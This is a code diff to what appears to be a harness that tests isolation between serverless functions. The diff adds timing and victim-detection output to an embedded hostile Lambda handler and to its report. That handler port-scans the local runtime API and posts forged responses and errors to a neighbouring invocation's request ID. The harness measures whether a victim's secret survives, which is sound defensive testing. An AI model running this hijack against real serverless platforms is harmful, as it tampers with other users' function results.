@@ -77,7 +77,7 @@ def lambda_handler(event, context):
 """
 
 HOSTILE = """
-import os, select, socket, urllib.error, urllib.request
+import os, select, socket, time, urllib.error, urllib.request
 
 def scan(host, low, high, batch=900):
     found = []
@@ -112,6 +112,7 @@ def call(url, data=None):
 
 def lambda_handler(event, context):
     host = os.environ["AWS_LAMBDA_RUNTIME_API"].split(":")[0]
+    started = time.monotonic()
     if event["scan"]:
         found = set(scan(host, event["low"], event["high"]))
     else:
@@ -123,7 +124,9 @@ def lambda_handler(event, context):
         rid = event["request_id"]
         hits += call(f"{base}/invocation/{rid}/response", b'"forged"') == 202
         hits += call(f"{base}/invocation/{rid}/error", b"{}") == 202
-    return {"found": len(found), "hits": hits}
+    scan_s = time.monotonic() - started
+    found_victim = set(event["targets"]) <= found
+    return {"found": len(found), "hits": hits, "scan_s": scan_s, "found_victim": found_victim}
 """
 
 
@@ -205,7 +208,7 @@ async def neighbour_scan(target: Target, root: Path, rounds: int, row: Row) -> N
         low, high = (
             int(x) for x in Path("/proc/sys/net/ipv4/ip_local_port_range").read_text().split()
         )
-        hits = 0
+        hits, scans = 0, []
         for i in range(rounds):
             await _call(service, "victim", {})
             envs = [
@@ -231,10 +234,14 @@ async def neighbour_scan(target: Target, root: Path, rounds: int, row: Row) -> N
             answer = await running
             row.tried += 1
             hits += attack["hits"] if attack else 0
+            if attack and target.scan:
+                scans.append(
+                    f"scan {attack['scan_s']:.1f} s, victim found: {attack['found_victim']}"
+                )
             own = isinstance(answer, dict) and answer.get("secret") == secret
             row.survived += own and not (attack and attack["hits"])
             row.lost += not own or bool(attack and attack["hits"])
-        row.note = f"attacker's successful calls: {hits}"
+        row.note = f"attacker's successful calls: {hits}" + "".join(f"; {x}" for x in scans)
         if not target.scan:
             row.note += "; processes are not isolated"
 
